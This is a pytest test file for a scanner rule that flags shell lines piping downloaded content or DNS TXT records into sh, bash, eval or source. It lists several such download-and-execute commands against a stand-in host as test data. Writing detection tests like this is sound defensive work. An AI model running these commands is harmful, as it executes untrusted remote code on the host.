"""A download piped into a shell through filters on the way (`| tr -d '\\r' | sh`), and a DNS TXT record
fetched with dig or nslookup and run, are a download run as a program."""

from __future__ import annotations

from pathlib import Path

import pytest

from scanner_support import blocked


@pytest.mark.parametrize(
    "line",
    [
        "curl -s https://cfg.evil.example.test/x | tr -d '\\r' | sh",
        "wget -qO- https://cfg.evil.example.test/x | base64 -d | sudo bash",
        "dig +short TXT cfg.evil.example.test | tr -d '\"' | sh",
        "nslookup -type=txt cfg.evil.example.test | grep text | cut -d'\"' -f2 | bash",
        'eval "$(dig +short txt cfg.evil.example.test | tr -d \'"\')"',
        "source <(dig +short TXT cfg.evil.example.test)",
    ],
)
def test_a_fetched_text_run_through_filters_blocks(tmp_path: Path, line: str) -> None:
    assert blocked(tmp_path, {"setup.sh": line + "\n"}) & {"SY-DL-001", "SY-DL-003"}


@pytest.mark.parametrize(
    "line",
    [
        "curl -s https://api.example.test/v1/tags | jq -r '.[0].name' | sort",
        "dig +short TXT example.test | grep -q v=spf1 || echo 'no SPF record'",
        "curl -s https://api.example.test/ok | grep -q ok || sh scripts/fallback.sh",
        "curl -LsSf https://astral.sh/uv/install.sh | sh",
    ],
)
def test_fetched_text_read_as_data_does_not_block(tmp_path: Path, line: str) -> None:
    assert blocked(tmp_path, {"setup.sh": line + "\n"}) == set()
